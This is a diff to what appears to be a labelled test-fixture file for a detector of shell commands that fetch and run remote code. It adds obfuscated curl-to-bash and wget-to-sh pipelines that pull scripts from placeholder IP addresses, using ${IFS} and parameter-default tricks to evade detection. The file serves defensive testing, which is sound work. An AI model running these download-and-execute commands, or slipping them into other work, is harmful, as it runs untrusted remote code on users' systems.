@@ -202,3 +202,13 @@ pip install --index-url=http://203.0.113.9/simple requests
 npx -y prettier --check .
 #@ neg uvx runs a registry tool
 uvx ruff check .
+#@ pos the downloader and the shell assigned by ${v:=...} in a no-op
+: "${fetch:=curl${IFS}-fsSL${IFS}http://203.0.113.41/s}" "${run:=bash}"
+$fetch | $run
+#@ pos ${v=...} without the colon, in a function
+setup() { : ${DL=wget} ${DL_OPTS=-qO-}; }
+setup
+$DL $DL_OPTS http://198.51.100.61/x | ${RUNNER:=sh}
+#@ neg a default assigned and used as an argument
+: "${OUT:=build}"
+curl -fsSL -o "$OUT/data.json" https://api.example.com/data
